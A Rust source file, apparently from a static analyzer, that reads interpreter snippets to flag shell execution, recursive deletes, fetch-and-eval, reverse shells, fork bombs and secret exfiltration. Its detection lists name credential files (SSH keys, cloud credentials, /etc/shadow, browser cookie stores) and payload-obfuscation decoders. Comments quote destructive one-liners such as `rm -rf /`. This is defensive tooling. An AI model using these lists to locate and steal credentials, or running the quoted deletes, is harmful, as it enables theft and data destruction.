//! Interpreter code: what a Python, JavaScript, Perl, Ruby, PHP, Lua, AppleScript or PowerShell
//! snippet runs and touches.
//!
//! The analysis is token-level (see [`tokens`]) over the vocabulary in `rules/interp.toml`: calls
//! that run a shell command or a program, recursive deletes with their target resolved (home and
//! root included), fetched code reaching an evaluator, stdin reaching an evaluator, fork loops, and
//! secrets reaching the network. The shell layer turns the result into IR commands and effects, so
//! analyzers never care that a command came from inside a Python string.

mod ipython;
mod loops;
mod paths;
mod powershell;
pub mod prints;
mod syntax;
mod tcl;
pub mod tokens;
mod windows;

use crate::text::dotted_tail;
use serde::Deserialize;
use std::cell::Cell;
use std::collections::HashMap;
use std::sync::OnceLock;
use std::time::{Duration, Instant};
use tokens::{call_args, split_args, tokenize, Style, Tok};

/// Language of a code snippet.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    /// POSIX/bash shell.
    Shell,
    /// Python.
    Python,
    /// JavaScript / TypeScript.
    JavaScript,
    /// Perl.
    Perl,
    /// Ruby.
    Ruby,
    /// PHP.
    Php,
    /// Lua.
    Lua,
    /// AppleScript.
    AppleScript,
    /// PowerShell.
    PowerShell,
    /// Tcl (`expect`, `tclsh`).
    Tcl,
    /// R.
    R,
    /// Julia.
    Julia,
    /// Groovy and the JVM's script front ends (`jshell`, `jrunscript`): Java-like calls.
    Groovy,
    /// Compiled languages written as source and built in the same input (C, C++, Go, Rust, Java,
    /// Kotlin, Swift, C#…): one C-like vocabulary of their standard libraries.
    Native,
    /// Languages without a vocabulary of their own (Erlang, Elixir, Lisps, Haskell, Octave…):
    /// when the code calls something that runs a program, its string literals are judged as the
    /// command lines and argv they most likely are.
    Other,
}

impl Lang {
    /// Parse a language name from the sink table (`shell` when absent or unknown).
    pub fn parse(s: Option<&str>) -> Lang {
        match s.unwrap_or("shell") {
            "python" => Lang::Python,
            "javascript" => Lang::JavaScript,
            "perl" => Lang::Perl,
            "ruby" => Lang::Ruby,
            "php" => Lang::Php,
            "lua" => Lang::Lua,
            "applescript" => Lang::AppleScript,
            "powershell" => Lang::PowerShell,
            "tcl" => Lang::Tcl,
            "r" => Lang::R,
            "julia" => Lang::Julia,
            "groovy" => Lang::Groovy,
            "native" => Lang::Native,
            "other" => Lang::Other,
            _ => Lang::Shell,
        }
    }

    /// The language a `#!` line at the start of `script` names (`#!/usr/bin/env python3`,
    /// `#!/usr/bin/env -S npx tsx`, `#!/usr/bin/perl -w`): how the kernel runs the file when it is
    /// executed directly. `None` without a `#!` line; an interpreter without a vocabulary of its
    /// own is [`Lang::Other`].
    pub fn from_shebang(script: &str) -> Option<Lang> {
        let line = script.strip_prefix("#!")?.lines().next().unwrap_or("");
        let mut words = line.split_whitespace();
        let mut program = words.next()?.rsplit('/').next().unwrap_or("");
        if program == "env" {
            program = words.find(|w| !w.starts_with('-') && !w.contains('='))?;
        }
        // `npx tsx`, `npx ts-node`: the package named is the interpreter.
        if program == "npx" {
            program = words.find(|w| !w.starts_with('-')).unwrap_or(program);
        }
        let base = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        Some(match base {
            "sh" | "bash" | "dash" | "zsh" | "ksh" | "mksh" | "ash" | "busybox" | "yash" => {
                Lang::Shell
            }
            "python" | "pypy" => Lang::Python,
            "node" | "nodejs" | "deno" | "bun" | "tsx" | "ts-node" | "npx" => Lang::JavaScript,
            "perl" => Lang::Perl,
            "ruby" | "jruby" => Lang::Ruby,
            "php" => Lang::Php,
            "lua" | "luajit" => Lang::Lua,
            "osascript" => Lang::AppleScript,
            "pwsh" | "powershell" => Lang::PowerShell,
            "tclsh" | "expect" | "wish" => Lang::Tcl,
            "Rscript" => Lang::R,
            "julia" => Lang::Julia,
            "groovy" | "jshell" => Lang::Groovy,
            _ => Lang::Other,
        })
    }

    /// Lower-case name for messages.
    pub fn name(self) -> &'static str {
        match self {
            Lang::Shell => "shell",
            Lang::Python => "python",
            Lang::JavaScript => "javascript",
            Lang::Perl => "perl",
            Lang::Ruby => "ruby",
            Lang::Php => "php",
            Lang::Lua => "lua",
            Lang::AppleScript => "applescript",
            Lang::PowerShell => "powershell",
            Lang::Tcl => "tcl",
            Lang::R => "r",
            Lang::Julia => "julia",
            Lang::Groovy => "groovy",
            Lang::Native => "native",
            Lang::Other => "other",
        }
    }

    /// The interpreter that runs a source file of this language (`python3 f.py`).
    pub fn program(self) -> Option<&'static str> {
        Some(match self {
            Lang::Shell => "sh",
            Lang::Python => "python3",
            Lang::JavaScript => "node",
            Lang::Perl => "perl",
            Lang::Ruby => "ruby",
            Lang::Php => "php",
            Lang::Lua => "lua",
            Lang::Tcl => "tclsh",
            Lang::R => "Rscript",
            Lang::Julia => "julia",
            Lang::Groovy => "groovy",
            _ => return None,
        })
    }

    fn style(self) -> Style {
        match self {
            Lang::Python | Lang::R => Style::Python,
            Lang::Julia => Style::Ruby,
            Lang::Perl => Style::Perl,
            Lang::Ruby => Style::Ruby,
            Lang::Php => Style::Php,
            Lang::Lua | Lang::AppleScript => Style::Lua,
            _ => Style::C,
        }
    }
}

/// Call vocabulary of one language (`rules/interp.toml`).
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Vocab {
    shell: Vec<String>,
    argv: Vec<String>,
    delete: Vec<String>,
    #[serde(default)]
    delete_needs: Vec<String>,
    fetch: Vec<String>,
    #[serde(default)]
    fetch_modules: Vec<String>,
    send: Vec<String>,
    eval: Vec<String>,
    fork: Vec<String>,
    home: Vec<String>,
    stdin: Vec<String>,
    secrets: Vec<String>,
    /// Calls that send a signal; with a PID of -1 they reach every process.
    #[serde(default)]
    kill: Vec<String>,
    /// Calls that delete one file or an empty directory.
    #[serde(default)]
    unlink: Vec<String>,
    /// Calls that move or rename a file (`os.rename(a, b)`), reported as `mv a b`.
    #[serde(default)]
    rename: Vec<String>,
    /// Calls that change a file's mode (`os.chmod(p, 0o777)`), reported as `chmod MODE PATH`.
    #[serde(default)]
    chmod: Vec<String>,
    /// Calls that enumerate every file under a root (the root is the first argument, the last
    /// for Perl's `find`, or the receiver: `Path.home().rglob("*")`).
    #[serde(default)]
    walk: Vec<String>,
    /// Calls that enumerate one directory or a glob pattern.
    #[serde(default)]
    list: Vec<String>,
    /// Calls that replace a file's whole content (`p.write_bytes(b)`, `fs.writeFileSync(f, d)`);
    /// `open(f, "wb")`-style opens for writing are recognised by their mode.
    #[serde(default)]
    overwrite: Vec<String>,
    /// Calls that open an outbound network connection.
    #[serde(default)]
    socket: Vec<String>,
    /// Modules whose functions are programs of the same name (`sh.rm("-rf", "/")`,
    /// `shelljs.rm("-rf", "/")`): a call runs the program with the literal arguments.
    #[serde(default)]
    programs: Vec<String>,
    /// How the language spells a recursive delete of `{}`: what a hand-written directory walker
    /// that removes entries amounts to (see [`syntax`]).
    #[serde(default)]
    recursive_delete: Option<String>,
}

fn vocab(lang: Lang) -> Option<&'static Vocab> {
    static TABLE: OnceLock<HashMap<String, Vocab>> = OnceLock::new();
    let t = TABLE.get_or_init(|| {
        serde_json::from_str(include_str!(concat!(
            env!("OUT_DIR"),
            "/rules-json/interp.json"
        )))
        .expect("rules/interp.toml is valid")
    });
    t.get(lang.name())
}

/// An argument of a [`Run::Argv`] whose value is computed at run time (`tempfile.mkdtemp()`, a
/// loop variable): the shell layer reads it as an unknown word, so `["git", "init", d]` is git
/// with an unknown directory while `["rm", "-rf", d]` is a delete of an unknown target.
pub const UNKNOWN_ARG: &str = "\u{1}unknown\u{1}";

/// How an [`UNKNOWN_ARG`] is written for the shell layer: a variable no input sets.
pub const UNKNOWN_ARG_SHELL: &str = "$RUNTIME_VALUE";

/// Something the snippet runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Run {
    /// A shell command line.
    Shell(String),
    /// A program with its arguments, no shell.
    Argv(Vec<String>),
}

/// What a snippet does, as far as the tokens show.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Report {
    /// Commands it runs, each with the call that runs it.
    pub runs: Vec<(Run, String)>,
    /// Recursive deletes with their resolved target (`~`, `/`, `~/.ssh`, `/etc`), and the call.
    pub deletes: Vec<(String, String)>,
    /// Calls that run code or commands whose text is computed at run time.
    pub dynamic: Vec<String>,
    /// ... of which those whose text is decoded right there from character codes, hex, base64,
    /// rot13, XOR or an escape encoding: the code hides what it runs on purpose.
    pub obfuscated: Vec<String>,
    /// Code fetched from the network reaches an evaluator or a shell.
    pub fetch_exec: bool,
    /// Code read from stdin reaches an evaluator or a shell.
    pub runs_input: bool,
    /// Processes are created in an unbounded loop.
    pub fork_loop: bool,
    /// Memory is allocated without bound: a list grows by large blocks in an endless loop, a
    /// value doubles in one, or one allocation asks for tens of gigabytes.
    pub memory_loop: bool,
    /// Environment secrets or credential files reach a network call.
    pub secret_to_network: bool,
    /// One credential variable (`GITHUB_TOKEN`) sent to a host that is not its vendor's.
    pub secret_variable_to_network: bool,
    /// ... and that variable names a well-known service, so the host is certainly not its use.
    pub vendor_secret_elsewhere: bool,
    /// What the code reads on stdin can reach a network send (`urlopen(url, sys.stdin.read())`):
    /// whatever the shell pipes in leaves the machine.
    pub stdin_to_network: bool,
    /// An outbound connection and a shell (or a command computed at run time) in the same code:
    /// the remote side types the commands.
    pub reverse_shell: bool,
    /// Files written: (path, content when it is literal, appended). A write whose content is
    /// computed (`bytes(4096)`, `Buffer.alloc(n)`, a download) still names its target.
    pub writes: Vec<(String, Option<String>, bool)>,
    /// Files written with content the code fetched, and the URL it fetched (or a placeholder).
    pub downloads: Vec<(String, String)>,
    /// The analysis stopped at its deadline: what the rest of the code does is not known.
    pub incomplete: bool,
    /// Literal code handed to an evaluator nested deeper than the bound (`exec("exec(…)")` …):
    /// what the innermost code does is not known.
    pub too_deep: bool,
    /// The code is longer than the analysis reads ([`tokens::MAX_TOKENS`]): what its rest
    /// does is not known.
    pub too_long: bool,
}

impl Report {
    /// Add what another reading of the same snippet found.
    fn absorb(&mut self, o: Report) {
        for r in o.runs {
            if !self.runs.contains(&r) {
                self.runs.push(r);
            }
        }
        for d in o.deletes {
            if !self.deletes.contains(&d) {
                self.deletes.push(d);
            }
        }
        // What one reading resolved is not dynamic because the other could not.
        if self.runs.is_empty() {
            self.dynamic.extend(o.dynamic);
        }
        for call in o.obfuscated {
            if !self.obfuscated.contains(&call) {
                self.obfuscated.push(call);
            }
        }
        self.fetch_exec |= o.fetch_exec;
        self.runs_input |= o.runs_input;
        self.fork_loop |= o.fork_loop;
        self.memory_loop |= o.memory_loop;
        self.secret_to_network |= o.secret_to_network;
        self.secret_variable_to_network |= o.secret_variable_to_network;
        self.vendor_secret_elsewhere |= o.vendor_secret_elsewhere;
        self.stdin_to_network |= o.stdin_to_network;
        self.reverse_shell |= o.reverse_shell;
        self.incomplete |= o.incomplete;
        self.too_deep |= o.too_deep;
        self.too_long |= o.too_long;
        self.writes.extend(o.writes);
        self.downloads.extend(o.downloads);
    }
}

/// Does the dotted call path `name` match vocabulary entry `entry`?
fn matches_entry(name: &str, entry: &str) -> bool {
    if let Some(method) = entry.strip_prefix("*.") {
        // A distinctive method name on any receiver (`c.execSync`, `require("fs/promises").rm`).
        return dotted_tail(name, method);
    }
    if entry.contains('.') {
        dotted_tail(name, entry)
    } else {
        name == entry
    }
}

fn in_list(name: &str, list: &[String]) -> bool {
    list.iter().any(|e| matches_entry(name, e))
}

/// Calls that turn numbers or encoded text into code text (`chr`, `fromCharCode`, base64, hex,
/// rot13): an evaluator fed by them is obfuscated code.
const OBFUSCATORS: &[&str] = &[
    "chr",
    "fromCharCode",
    "b64decode",
    "decodebytes",
    "a2b_base64",
    "fromhex",
    "unhexlify",
    "atob",
    "decode64",
    "unpack",
    "pack",
    "rot13",
    "decompress",
    "gzinflate",
    "base64_decode",
    "str_rot13",
    "hex2bin",
    "b85decode",
    "b32decode",
    "a85decode",
    "base64decode",
    "base64Decode",
    "base64_dec",
    "rawToChar",
    "intToUtf8",
];

/// Whether the argument of a call that runs a command or code decodes it right there: a
/// decoder of [`OBFUSCATORS`], an escape or case decoder, a character-code builder, XOR, or a
/// `.decode("hex" | "base64" | "rot13")`.
fn decodes_in_place(args: &[Tok]) -> bool {
    const MORE: &[&str] = &[
        "unescape",
        "decodeURIComponent",
        "fromCodePoint",
        "swapcase",
        "maketrans",
        "reversed",
        "strrev",
        "uudecode",
    ];
    // A literal written in capitals and lowered on the way (`"RM -RF ~".lower()`, `lc "RM -RF ~"`).
    let shouted = args.iter().any(|t| {
        matches!(t, Tok::Str(s) if s.bytes().filter(u8::is_ascii_uppercase).count() >= 2
            && !s.bytes().any(|b| b.is_ascii_lowercase()))
    }) && args.iter().any(|t| {
        matches!(t, Tok::Ident(n) if ["lower", "toLowerCase", "lc", "downcase", "swapcase", "ToLower"]
            .iter().any(|o| dotted_tail(n, o)))
    });
    shouted
        || args.iter().enumerate().any(|(k, t)| match t {
            // `"%c" * 8 % (…)`, `sprintf("%c" x 8, …)`, `array_map("chr", …)`.
            Tok::Str(s) => s.contains("%c") || s == "chr",
            Tok::Ident(n) if dotted_tail(n, "reduce") => true,
            Tok::Ident(n) => {
                OBFUSCATORS.iter().chain(MORE).any(|o| dotted_tail(n, o))
                    || (dotted_tail(n, "decode")
                        && args[k + 1..].iter().take(3).any(|a| {
                            matches!(a, Tok::Str(e) if matches!(e.to_ascii_lowercase().as_str(),
                            "hex" | "base64" | "rot13" | "rot_13" | "base_64" | "uu"))
                        }))
            }
            Tok::Punct('^') => true,
            _ => false,
        })
}

/// Files whose content is a credential.
const SECRET_FILES: &[&str] = &[
    ".ssh/",
    "id_rsa",
    "id_ed25519",
    "id_ecdsa",
    ".aws/credentials",
    ".aws/config",
    ".netrc",
    ".git-credentials",
    ".npmrc",
    ".pypirc",
    ".kube/config",
    ".docker/config.json",
    ".env",
    ".gnupg",
    "/etc/shadow",
    ".config/gh/hosts.yml",
    ".config/gcloud",
    ".azure/",
    "/Cookies",
    "/Login Data",
    "logins.json",
    "key4.db",
    "cookies.sqlite",
    "/proc/self/environ",
    "/proc/1/environ",
    "/environ",
    ".bash_history",
    ".zsh_history",
    ".m2/settings.xml",
    ".gradle/gradle.properties",
    ".cargo/credentials",
    ".gem/credentials",
    ".vault-token",
    ".terraform.d/credentials",
    "Keychains/",
    "master.key",
];

/// Code written inside the code (a literal `exec("…")`, a `data:` URL imported), analysed as if
/// written out in place, within the nesting bound (past it the report says so).
fn merge_nested(r: &mut Report, lang: Lang, v: &Vocab, code: &str, inputs: &Inputs, depth: usize) {
    if depth < MAX_EVAL_DEPTH {
        merge(r, with_vocab(lang, v, code, inputs, depth + 1));
    } else {
        r.too_deep = true;
    }
}

/// The code a `data:` URL of a script type carries (`data:text/javascript;base64,…`, also
/// percent-encoded): what `import()` of it runs.
fn data_url_code(url: &str) -> Option<String> {
    let (meta, body) = url.strip_prefix("data:")?.split_once(',')?;
    let meta = meta.to_ascii_lowercase();
    if !(meta.contains("javascript") || meta.contains("ecmascript") || meta.contains("python")) {
        return None;
    }
    if meta.ends_with(";base64") {
        let bytes = crate::text::base64::decode(body.trim())?;
        return Some(String::from_utf8_lossy(&bytes).into_owned());
    }
    Some(crate::text::percent::decode(body))
}

/// Does this text name a credential file? `.env` counts as a file name (`.env`, `app/.env`,
/// `.env.local`, `prod.env`), not inside other words (`os.environ` in an f-string).
fn names_secret_file(s: &str) -> bool {
    // Public halves and templates are not credentials (`~/.ssh/id_ed25519.pub`).
    if s.ends_with(".example") || s.ends_with(".pub") || s.ends_with("known_hosts") {
        return false;
    }
    // A credential directory itself (`~/.ssh`, `os.path.join(home, ".aws")`): walked, listed
    // or globbed, every file in it is read.
    let dir = s.trim_end_matches('/');
    if [".ssh", ".aws", ".gnupg", ".kube", ".password-store"]
        .iter()
        .any(|d| dir == *d || dir.strip_suffix(d).is_some_and(|r| r.ends_with('/')))
    {
        return true;
    }
    SECRET_FILES.iter().any(|f| {
        if *f != ".env" {
            return s.contains(f);
        }
        s.match_indices(".env").any(|(i, _)| {
            let after = &s[i + 4..];
            after.is_empty() || after.starts_with(['.', '/', '"', '\'', ' ', ')', '*'])
        })
    })
}

/// Methods that turn the environment object into a dump of every variable.
/// Database drivers' `connect` calls (names end with these): they open a database handle, not
/// a network socket a shell could be tied to.
const DATABASE_CONNECTS: &[&str] = &[
    "sqlite3.connect",
    "aiosqlite.connect",
    "psycopg2.connect",
    "psycopg.connect",
    "pymysql.connect",
    "MySQLdb.connect",
    "connector.connect",
    "duckdb.connect",
    "pyodbc.connect",
    "cx_Oracle.connect",
    "oracledb.connect",
    "asyncpg.connect",
    "lancedb.connect",
];

const ENV_DUMPS: &[&str] = &[
    "items", "keys", "values", "copy", "to_h", "to_hash", "to_a", "inspect", "to_s", "each", "map",
    "entries", "toObject",
];

/// Does this variable name say it holds a credential?
fn secret_named(var: &str) -> bool {
    let u = var.to_ascii_uppercase();
    [
        "TOKEN",
        "SECRET",
        "PASSWORD",
        "PASSWD",
        "API_KEY",
        "APIKEY",
        "PRIVATE_KEY",
        "ACCESS_KEY",
        "CREDENTIAL",
        "_PAT",
    ]
    .iter()
    .any(|k| u.contains(k))
        || u.ends_with("_KEY")
}

/// Calls that resolve a host name: a secret in the name leaves through DNS.
fn is_dns_call(name: &str) -> bool {
    name.contains("hostbyname")
        || name.contains("getaddrinfo")
        || name.contains("dns_get_record")
        || name.contains("Resolv.")
        || (name.contains("dns") || name.contains("resolver"))
            && [
                "resolve",
                "lookup",
                "resolve4",
                "resolve6",
                "resolveTxt",
                "query",
            ]
            .iter()
            .any(|m| name.ends_with(m))
}

/// The host of a literal URL (`https://HOST/…`), or a bare domain suffix used to build a name
/// (`".x.evil.example.com"`).
fn literal_host(s: &str) -> Option<String> {
    if let Some(rest) = s.split_once("://").map(|p| p.1) {
        let host = rest.split(['/', '?', '#', ':']).next().unwrap_or("");
        return (host.contains('.')).then(|| host.to_ascii_lowercase());
    }
    let t = s.trim_start_matches('.');
    (s.starts_with('.')
        && t.matches('.').count() >= 1
        && t.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-'))
    .then(|| t.to_ascii_lowercase())
}

/// What the command line fixes about a snippet's inputs: the arguments after the code
/// (`python3 -c CODE a b` → `sys.argv[1] == "a"`), its stdin, and environment variables.
#[derive(Debug, Clone, Default)]
pub struct Inputs {
    /// Arguments after the inline code, in order (`sys.argv[1..]`, `@ARGV`, `ARGV`, `arg[1..]`).
    pub argv: Vec<String>,
    /// Text on stdin, when the input shows it.
    pub stdin: Option<String>,
    /// Environment variables with known values.
    pub env: HashMap<String, String>,
    /// The working directory when the shell input fixes it (`cd / && python3 -c …`).
    pub cwd: Option<String>,
    /// When the analysis must stop (default: [`TIME_BUDGET`] from the start); past it the report
    /// says [`Report::incomplete`].
    pub deadline: Option<Instant>,
}

/// Time one snippet's analysis may take when the caller sets no deadline.
pub const TIME_BUDGET: Duration = Duration::from_secs(1);

thread_local! {
    /// The deadline of the analysis running on this thread (nested code shares it).
    static DEADLINE: Cell<Option<Instant>> = const { Cell::new(None) };
}

/// Forget this thread's analysis deadline: after an analysis that did not return (a caught
/// panic), the next one on the thread must not inherit its deadline.
pub fn forget_deadline() {
    DEADLINE.with(|d| d.set(None));
}

/// True once the running analysis is past its deadline.
fn out_of_time() -> bool {
    DEADLINE
        .with(|d| d.get())
        .is_some_and(|d| Instant::now() >= d)
}

/// Analyse a snippet.
pub fn analyze(lang: Lang, code: &str) -> Report {
    analyze_with(lang, code, &Inputs::default())
}

/// Analyse a snippet whose arguments, stdin or environment the command line fixes.
pub fn analyze_with(lang: Lang, code: &str, inputs: &Inputs) -> Report {
    let outer = DEADLINE.with(|d| d.get());
    let deadline = inputs
        .deadline
        .unwrap_or_else(|| Instant::now() + TIME_BUDGET);
    DEADLINE.with(|d| d.set(Some(outer.map_or(deadline, |o| o.min(deadline)))));
    let mut report = analyze_in_time(lang, code, inputs);
    report.incomplete |= out_of_time();
    DEADLINE.with(|d| d.set(outer));
    report
}

/// [`analyze_with`] under the deadline it set.
fn analyze_in_time(lang: Lang, code: &str, inputs: &Inputs) -> Report {
    // IPython's `!cmd` lines are shell; the rest is read as Python.
    if lang == Lang::Python {
        if let Some((commands, python)) = ipython::split_escapes(code) {
            let mut r = analyze_in_time(lang, &python, inputs);
            r.runs.extend(
                commands
                    .into_iter()
                    .map(|c| (Run::Shell(c), "an IPython shell escape (!)".to_string())),
            );
            return r;
        }
    }
    let code = &*paths::canonical_paths(code);
    // Languages read by their own tokenizing passes: code longer than the token bound is only
    // partly read, so what its rest does is not known (fewer bytes cannot hold that many tokens).
    if matches!(
        lang,
        Lang::AppleScript | Lang::PowerShell | Lang::Tcl | Lang::Other
    ) && code.len() >= tokens::MAX_TOKENS
        && tokenize(code, lang.style()).len() >= tokens::MAX_TOKENS
    {
        return Report {
            too_long: true,
            ..Report::default()
        };
    }
    match lang {
        Lang::Shell => Report::default(),
        Lang::AppleScript => applescript(code),
        Lang::PowerShell => powershell::analyze(code),
        Lang::Tcl => tcl::analyze(code),
        Lang::Other => other_language(code),
        // Compiled source, the JVM's script front ends and Julia: the standard-library vocabulary, plus
        // the literal command lines and argv arrays any call that runs a program is given
        // (`new String[]{"sh","-c","…"}`).
        Lang::Native | Lang::Groovy | Lang::Julia => {
            let mut r = vocab(lang)
                .map(|v| with_vocab(lang, v, code, inputs, 0))
                .unwrap_or_default();
            r.absorb(other_language(code));
            r
        }
        _ => match vocab(lang) {
            Some(v) => with_vocab(lang, v, code, inputs, 0),
            None => Report::default(),
        },
    }
}

/// The argument tokens of the call whose name is at `toks[i]`: parenthesised, or (Perl, Ruby,
/// Lua) everything up to the end of the statement.
fn args_of(toks: &[Tok], i: usize, lang: Lang) -> Option<&[Tok]> {
    if let Some((args, _)) = call_args(toks, i + 1) {
        return Some(args);
    }
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Lua | Lang::Php) {
        let start = i + 1;
        let first = toks.get(start)?;
        // A word list (`system qw(rm -rf /)`) arrives as `[…]`; Ruby spreads with `*`.
        let list = matches!(first, Tok::Punct('['))
            || (lang == Lang::Ruby && matches!(first, Tok::Punct('*')));
        // A number starts `chmod 0666, FILE`.
        if !matches!(
            first,
            Tok::Str(_) | Tok::Ident(_) | Tok::Cmd(_) | Tok::Num(_)
        ) && !list
        {
            return None;
        }
        // The statement ends at `;`, a closing bracket of an enclosing block or a statement
        // modifier; brackets opened inside it (`$ENV{HOME}`, `$a[0]`) are part of it.
        let mut open = 0usize;
        let end = toks[start..]
            .iter()
            .position(|t| match t {
                Tok::Punct('(' | '[' | '{') => {
                    open += 1;
                    false
                }
                Tok::Punct(')' | ']' | '}') if open > 0 => {
                    open -= 1;
                    false
                }
                Tok::Punct(';' | '}' | ')') => true,
                // Ruby's `task :t do sh "cmd" end`: the block's `end` closes the statement.
                Tok::Ident(k) => {
                    open == 0
                        && (matches!(
                            k.as_str(),
                            "if" | "unless" | "while" | "until" | "or" | "and"
                        ) || lang == Lang::Ruby && k == "end")
                }
                _ => false,
            })
            .map(|p| p + start)
            .unwrap_or(toks.len());
        return Some(&toks[start..end]);
    }
    None
}

/// Literal strings of an argument when it is nothing but literals and concatenation.
/// Longest value joined from known values (longer ones are not known).
const MAX_JOINED: usize = 16 * 1024;
/// Most bytes of variable values one pass over a snippet remembers.
const MAX_VAR_BYTES: usize = 4 * 1024 * 1024;

fn literal(arg: &[Tok], vars: &HashMap<String, String>) -> Option<String> {
    let mut s = String::new();
    let mut any = false;
    let mut i = 0;
    while i < arg.len() {
        let t = &arg[i];
        i += 1;
        // Environment lookups (`os.environ['HOME']`, `ENV["HOME"]`, `getenv("HOME")`,
        // `$ENV{HOME}`, `process.env.HOME`) stay variables: `$HOME`.
        if let Tok::Ident(name) = t {
            let last = name.rsplit('.').next().unwrap_or(name);
            if is_env_accessor(name) {
                if let (
                    Some(Tok::Punct('[' | '(' | '{')),
                    Some(Tok::Str(k) | Tok::Ident(k)),
                    Some(Tok::Punct(']' | ')' | '}')),
                ) = (arg.get(i), arg.get(i + 1), arg.get(i + 2))
                {
                    s.push('$');
                    s.push_str(k);
                    any = true;
                    i += 3;
                    continue;
                }
            }
            if name.contains(".env.") || name.starts_with("ENV.") {
                s.push('$');
                s.push_str(last);
                any = true;
                continue;
            }
            // `__import__('os')`, `require('os')`: a module handle, not text.
            if matches!(last, "__import__" | "require" | "import")
                && matches!(arg.get(i), Some(Tok::Punct('(')))
                && matches!(arg.get(i + 2), Some(Tok::Punct(')')))
            {
                i += 3;
                continue;
            }
            // `Dir.home`, `Path.home` without parentheses (Ruby).
            if matches!(name.as_str(), "Dir.home" | "Etc.getpwuid.dir")
                && !matches!(arg.get(i), Some(Tok::Punct('(')))
            {
                s.push('~');
                any = true;
                continue;
            }
            // Perl's `glob "~"` (no parentheses) expands to the home directory; the pattern
            // stands for what it matches.
            let is_glob = matches!(last, "glob" | "bsd_glob");
            if is_glob {
                if let Some(Tok::Str(v)) = arg.get(i) {
                    s.push_str(v);
                    any = true;
                    i += 1;
                    continue;
                }
            }
            if (is_glob
                || matches!(
                    last,
                    "expanduser"
                        | "homedir"
                        | "home"
                        | "path.expand"
                        | "expand_path"
                        | "UserHomeDir"
                        | "home_dir"
                ))
                && matches!(arg.get(i), Some(Tok::Punct('(')))
            {
                // `os.path.expanduser('~/x')`, `Path.home()`, `os.homedir()`.
                let close = arg[i..]
                    .iter()
                    .position(|t| matches!(t, Tok::Punct(')')))
                    .map(|p| p + i);
                if let Some(close) = close {
                    let inner: String = arg[i..close]
                        .iter()
                        .filter_map(|t| {
                            if let Tok::Str(v) = t {
                                Some(v.as_str())
                            } else {
                                None
                            }
                        })
                        .collect();
                    s.push_str(if inner.is_empty() { "~" } else { &inner });
                    any = true;
                    i = close + 1;
                    continue;
                }
            }
        }
        match t {
            Tok::Str(v) => {
                let text = interpolate(v, vars);
                // Values joined from values (`b = a + a`, `f"{a}{a}"`) double at each step: past
                // the bound the value is not known.
                if text.len() > v.len() && s.len() + text.len() > MAX_JOINED {
                    return None;
                }
                s.push_str(&text);
                any = true;
            }
            Tok::Ident(name) if vars.contains_key(name) => {
                if s.len() + vars[name].len() > MAX_JOINED {
                    return None;
                }
                s.push_str(&vars[name]);
                any = true;
            }
            Tok::Punct('+' | '.' | '(' | ')') => {}
            _ => return None,
        }
    }
    any.then_some(s)
}

/// Placeholders of known values inside a string: f-string `{d}`, template `${d}`, Ruby `#{d}`,
/// Perl/PHP `$d`; environment lookups in them (`${process.env.HOME}`, `{os.environ['HOME']}`,
/// `#{ENV["HOME"]}`) become `$NAME`. Anything else is left as written.
fn interpolate(v: &str, vars: &HashMap<String, String>) -> String {
    if !v.contains(['{', '$']) {
        return v.to_string();
    }
    let env_name = |inner: &str| -> Option<String> {
        if let Some(n) = inner
            .strip_prefix("process.env.")
            .or_else(|| inner.strip_prefix("Bun.env."))
        {
            return Some(n.to_string());
        }
        // `{os.getlogin()}`, `{getpass.getuser()}`, `${os.userInfo().username}`: the user name.
        if [
            "getlogin()",
            "getuser()",
            "userInfo().username",
            "Etc.getlogin",
        ]
        .iter()
        .any(|u| inner.ends_with(u))
        {
            return Some("USER".into());
        }
        let quoted = inner.split(['\'', '"']).nth(1)?;
        (inner.starts_with("os.environ")
            || inner.starts_with("os.getenv")
            || inner.starts_with("ENV[")
            || inner.starts_with("ENV.fetch")
            || inner.starts_with("getenv"))
        .then(|| quoted.to_string())
    };
    let mut out = String::with_capacity(v.len());
    let mut rest = v;
    while let Some(p) = rest.find(['{', '$']) {
        out.push_str(&rest[..p]);
        let tail = &rest[p..];
        // `{x}` / `${x}` / `#{x}` (the `#`/`$` was already copied or is part of the match).
        let braced = tail
            .strip_prefix("${")
            .or_else(|| tail.strip_prefix('{'))
            .and_then(|t| t.find('}').map(|e| (&t[..e], e)));
        if let Some((inner, e)) = braced {
            let prefix = if tail.starts_with("${") { 2 } else { 1 };
            let value = vars
                .get(inner)
                .cloned()
                .or_else(|| env_name(inner).map(|n| format!("${n}")));
            if let Some(value) = value {
                if out.ends_with('#') && prefix == 1 {
                    out.pop();
                }
                out.push_str(&value);
                rest = &tail[prefix + e + 1..];
                continue;
            }
        } else if let Some(t) = tail.strip_prefix('$') {
            // Perl's `"…$ENV{HOME}…"`: the environment variable.
            if let Some((inner, e)) = t
                .strip_prefix("ENV{")
                .and_then(|r| r.find('}').map(|e| (&r[..e], e)))
            {
                let name = inner.trim_matches(['\'', '"']);
                if !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
                    out.push('$');
                    out.push_str(name);
                    rest = &t[4 + e + 1..];
                    continue;
                }
            }
            let n = t
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(t.len());
            let name = &t[..n];
            if let Some(value) = vars.get(&format!("${name}")).or_else(|| vars.get(name)) {
                if n > 0 {
                    out.push_str(value);
                    rest = &t[n..];
                    continue;
                }
            }
        }
        out.push_str(&tail[..1]);
        rest = &tail[1..];
    }
    out.push_str(rest);
    out
}

/// Calls and maps that read one environment variable.
fn is_env_accessor(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    matches!(
        last,
        "environ"
            | "getenv"
            | "ENV"
            | "$ENV"
            | "env"
            | "get"
            | "Getenv"
            | "Sys"
            | "$_ENV"
            | "$_SERVER"
    ) && (name.contains("env")
        || name.contains("ENV")
        || name.contains("Env")
        || name.contains("Sys"))
}

/// Separator of a list variable's items in `vars` (under [`list_key`]).
const LIST_SEP: &str = "\u{1f}";

/// Where a list variable's items are kept in `vars`.
fn list_key(name: &str) -> String {
    format!("[]{}", name.trim_start_matches(['$', '@', '*']))
}

/// The items of a list literal at the start of `toks` (`[…]`, or `(…)` holding a comma), when
/// every item is literal.
